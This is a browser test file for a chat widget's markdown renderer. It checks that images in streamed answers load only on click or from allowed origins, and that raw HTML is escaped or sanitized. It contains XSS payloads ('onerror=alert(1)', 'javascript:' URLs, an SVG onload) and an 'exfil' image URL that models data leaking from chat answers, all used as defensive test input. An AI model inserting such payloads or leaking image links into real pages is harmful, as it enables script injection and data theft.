// The image policy (nothing fetched unless the user clicks or the `images` option allows the
// origin) and the raw HTML option, on MarkdownView and through the element.
import { expect, fixture, html } from '@open-wc/testing';
import { imageAllowed, imageSource, loadImagePlaceholder } from '../../src/markdown/image-placeholder/image-placeholder.js';
import { MarkdownView, type MarkdownOptions } from '../../src/markdown/markdown-view.js';
import type { StreamChat } from '../../src/stream-chat.js';
import { lastAnswer, newTestId, nextEvent, sse, until } from '../helpers.js';

// Another origin that reaches the test server, which records what arrives under /exfil/.
const FOREIGN = `http://${location.hostname === '127.0.0.1' ? 'localhost' : '127.0.0.1'}:${location.port}`;
const EXFIL = `/exfil/images-${Math.random().toString(36).slice(2)}`;
const EVIL = `${FOREIGN}${EXFIL}`;

async function arrived(): Promise<string[]> {
  const hits = (await (await fetch(`/exfil-log?prefix=${encodeURIComponent(`${EXFIL}/`)}`)).json()) as { url: string }[];
  return hits.map((hit) => hit.url);
}

/** Resolves once the server has seen `path`; rejects after four seconds. */
async function reaches(path: string): Promise<void> {
  for (let i = 0; i < 80; i++) {
    if ((await arrived()).includes(path)) return;
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
  throw new Error(`no request for ${path} reached the server`);
}

/** Lets any request the DOM started reach the server before checking that none did. */
const settle = () => new Promise((resolve) => setTimeout(resolve, 150));

const views: HTMLElement[] = [];
afterEach(() => views.splice(0).forEach((root) => root.remove()));

function render(text: string, options: MarkdownOptions = {}, final = true): HTMLElement {
  const root = document.createElement('div');
  // In the document and on screen, so lazy images would load.
  document.body.prepend(root);
  views.push(root);
  new MarkdownView(root, options).update(text, final);
  return root;
}

describe('image policy', () => {
  it('shows a placeholder by default and fetches nothing', async () => {
    const root = render(`Here:\n\n![sales chart](${EVIL}/default.png?q=secret "Q3")\n`);
    expect(root.querySelector('img')).to.be.null;
    const a = root.querySelector<HTMLAnchorElement>('a.image-placeholder')!;
    expect(a.textContent).to.equal('🖼 sales chart — load image');
    expect(a.getAttribute('part')).to.equal('image-placeholder');
    expect(a.dataset.src).to.equal(`${EVIL}/default.png?q=secret`);
    expect(a.href).to.equal(`${EVIL}/default.png?q=secret`);
    expect(a.dataset.alt).to.equal('sales chart');
    expect(a.dataset.title).to.equal('Q3');
    expect(a.title).to.equal(`Load the image from ${new URL(FOREIGN).host}`);
    expect(a.target).to.equal('_blank');
    expect(a.rel).to.equal('noopener noreferrer');
    await settle();
    expect(await arrived()).to.deep.equal([]);
  });

  it('loads the image when the placeholder is clicked, without a referrer', async () => {
    const root = render(`![chart](${EVIL}/clicked.png "Q3")`);
    loadImagePlaceholder(root.querySelector<HTMLAnchorElement>('a.image-placeholder')!);
    const img = root.querySelector('img')!;
    expect(root.querySelector('a')).to.be.null;
    expect(img.getAttribute('src')).to.equal(`${EVIL}/clicked.png`);
    expect(img.alt).to.equal('chart');
    expect(img.title).to.equal('Q3');
    expect(img.className).to.equal('markdown-image');
    expect(img.getAttribute('part')).to.equal('image');
    expect(img.loading).to.equal('lazy');
    expect(img.referrerPolicy).to.equal('no-referrer');
    await reaches(`${EXFIL}/clicked.png`);
  });

  it('keeps an image the user loaded when the streamed block it is in is rendered again', () => {
    const root = document.createElement('div');
    document.body.prepend(root);
    views.push(root);
    const view = new MarkdownView(root);
    const url = 'https://images.invalid/kept.png';
    view.update(`See ![kept](${url}) and`, false);
    loadImagePlaceholder(root.querySelector<HTMLAnchorElement>('a.image-placeholder')!);
    view.update(`See ![kept](${url}) and more`, false);
    expect(root.querySelector('p img')!.getAttribute('src')).to.equal(url);
    view.update(`See ![kept](${url}) and more.\n\nNext paragraph`, false);
    expect(root.querySelector('p img')!.getAttribute('src')).to.equal(url);
    view.update(`See ![kept](${url}) and more.\n\nNext paragraph.`, true);
    expect(root.querySelectorAll('img')).to.have.length(1);
  });

  it('loads every image directly with images="*", once its block is finished', async () => {
    const root = document.createElement('div');
    document.body.prepend(root);
    views.push(root);
    const view = new MarkdownView(root, { images: '*' });
    view.update(`![all](${EVIL}/star.png)`, false);
    // The open block may still be cut short (and is rendered again on every update).
    expect(root.querySelector('img')).to.be.null;
    expect(root.querySelector('a.image-placeholder')).to.exist;
    view.update(`![all](${EVIL}/star.png)\n\nNext`, false);
    expect(root.querySelector('img')!.getAttribute('src')).to.equal(`${EVIL}/star.png`);
    await reaches(`${EXFIL}/star.png`);
  });

  it('loads images from listed origins only', async () => {
    const root = render(`![a](${EVIL}/listed.png) ![b](https://other.invalid/b.png) ![c](https://cdn.example.com.evil.invalid/c.png)`, {
      images: `https://cdn.example.com not-a-url ${FOREIGN}/any/path`,
    });
    expect(Array.from(root.querySelectorAll('img'), (img) => img.getAttribute('src'))).to.deep.equal([`${EVIL}/listed.png`]);
    expect(Array.from(root.querySelectorAll<HTMLAnchorElement>('a.image-placeholder'), (a) => a.dataset.src)).to.deep.equal([
      'https://other.invalid/b.png',
      'https://cdn.example.com.evil.invalid/c.png',
    ]);
  });

  it('resolves relative and protocol-relative image URLs before judging their origin', () => {
    const here = render('![a](/exfil/relative.png) ![b](//other.invalid/b.png)', { images: location.origin });
    expect(here.querySelector('img')!.getAttribute('src')).to.equal(`${location.origin}/exfil/relative.png`);
    expect(here.querySelector<HTMLAnchorElement>('a.image-placeholder')!.dataset.src).to.equal(`${location.protocol}//other.invalid/b.png`);
  });

  it('never loads data:, javascript: or other non-http images, whatever the policy', async () => {
    const root = render(
      '![png](data:image/png;base64,iVBORw0KGgo=) ![svg](data:image/svg+xml,<svg/onload=alert(1)>) ![js](javascript:alert(1)) ![](JaVa&#x09;ScRiPt:alert(1)) ![blob](blob:https://x.example/1) ![file](file:///etc/passwd)',
      { images: '*' },
    );
    expect(root.querySelector('img, a.image-placeholder')).to.be.null;
    expect(Array.from(root.querySelectorAll('.image-blocked'), (s) => s.textContent)).to.deep.equal([
      '🖼 png',
      '🖼 svg',
      '🖼 js',
      '🖼 Image',
      '🖼 blob',
      '🖼 file',
    ]);
  });

  it('checks the URL again when a placeholder is clicked', () => {
    const root = render('![x](https://images.invalid/x.png)');
    const a = root.querySelector<HTMLAnchorElement>('a.image-placeholder')!;
    a.dataset.src = 'javascript:alert(1)';
    loadImagePlaceholder(a);
    expect(root.querySelector('img')).to.be.null;
    expect(a.isConnected).to.be.true;
    const link = render('[plain](https://images.invalid/y.png)').querySelector('a')!;
    link.dataset.src = 'https://images.invalid/y.png';
    loadImagePlaceholder(link);
    expect(link.isConnected).to.be.true;
  });

  it('judges image URLs and origins', () => {
    expect(imageSource(' https://a.example/x.png ')).to.equal('https://a.example/x.png');
    expect(imageSource('java\tscript:alert(1)')).to.be.undefined;
    expect(imageSource('data:image/png;base64,AAAA')).to.be.undefined;
    expect(imageSource('')).to.be.undefined;
    expect(imageAllowed('https://a.example/x.png')).to.be.false;
    expect(imageAllowed('https://a.example/x.png', 'none')).to.be.false;
    expect(imageAllowed('https://a.example/x.png', ' * ')).to.be.true;
    expect(imageAllowed('https://a.example/x.png', 'https://b.example https://a.example')).to.be.true;
    expect(imageAllowed('https://a.example/x.png', 'http://a.example')).to.be.false;
    expect(imageAllowed('https://a.example:8443/x.png', 'https://a.example')).to.be.false;
    expect(imageAllowed('https://a.example/x.png', 'a.example')).to.be.false;
  });
});

describe('raw HTML in answers', () => {
  it('is shown as text by default', () => {
    const root = render('Use <b>bold</b> and <img src=x onerror=alert(1)>.\n\n<div class="x">block</div>');
    expect(root.querySelector('.segment :is(b, img, div)')?.outerHTML).to.be.undefined;
    expect(root.textContent).to.contain('<b>bold</b>').and.contain('<img src=x onerror=alert(1)>').and.contain('<div class="x">block</div>');
  });

  it('is rendered through the chat policy with html="sanitize"', () => {
    const root = render(
      'Use <b>bold</b>, <kbd>Ctrl</kbd> and <img src=x onerror=alert(1)><a href="javascript:alert(1)" onclick="x()">link</a>.\n\n<details open><summary>More</summary><span class="cursor" style="color:red" id="input">hidden</span></details>\n\n```js\nlet a;\n```\n',
      { html: 'sanitize' },
    );
    expect(root.querySelector('b')!.textContent).to.equal('bold');
    expect(root.querySelector('kbd')!.textContent).to.equal('Ctrl');
    expect(root.querySelector('details[open] summary')).to.exist;
    expect(root.querySelector('img')).to.be.null;
    const a = Array.from(root.querySelectorAll('a')).find((link) => link.textContent === 'link')!;
    expect(a.getAttributeNames()).to.deep.equal([]);
    const span = root.querySelector('details span')!;
    expect(span.getAttributeNames()).to.deep.equal([]);
    expect(root.querySelector('code')!.className).to.match(/^language-js\b/);
  });

  it('renders task list items with box characters instead of inputs', () => {
    const root = render('- [x] done\n- [ ] todo');
    expect(root.querySelector('input')).to.be.null;
    expect(Array.from(root.querySelectorAll('li'), (li) => li.textContent!.trim())).to.deep.equal(['☑ done', '☐ todo']);
  });
});

describe('images and raw HTML through <stream-chat>', () => {
  async function answer(attributes: { images?: string; html?: string }, content: string) {
    const testId = newTestId();
    const el = await fixture<StreamChat>(html`<stream-chat endpoint="/test-sse" images=${attributes.images ?? 'none'} html=${attributes.html ?? 'escape'}></stream-chat>`);
    el.body = { testId, script: { chunks: sse({ content }, { done: true }) } };
    const done = nextEvent(el, 'stream-chat-complete');
    await el.send('question');
    await done;
    await el.updateComplete;
    await until(() => lastAnswer(el)?.textContent?.trim(), 'the answer to render');
    return el;
  }

  it('loads an image when its placeholder is clicked', async () => {
    const el = await answer({}, `![clicked](${EVIL}/element.png)`);
    const a = lastAnswer(el).querySelector<HTMLAnchorElement>('a.image-placeholder')!;
    let navigated = false;
    // Were the element not to take the click, the browser would open the image in a new tab.
    const guard = (event: Event) => (navigated = !event.defaultPrevented);
    el.shadowRoot!.addEventListener('click', guard);
    a.click();
    el.shadowRoot!.removeEventListener('click', guard);
    expect(navigated).to.be.false;
    expect(lastAnswer(el).querySelector('img')!.getAttribute('src')).to.equal(`${EVIL}/element.png`);
  });

  it('passes the images and html attributes to the renderer', async () => {
    const el = await answer({ images: FOREIGN, html: 'sanitize' }, `<b>bold</b> ![listed](${EVIL}/attr.png)\n`);
    expect(lastAnswer(el).querySelector('b')!.textContent).to.equal('bold');
    expect(lastAnswer(el).querySelector('img')!.getAttribute('src')).to.equal(`${EVIL}/attr.png`);
  });
});
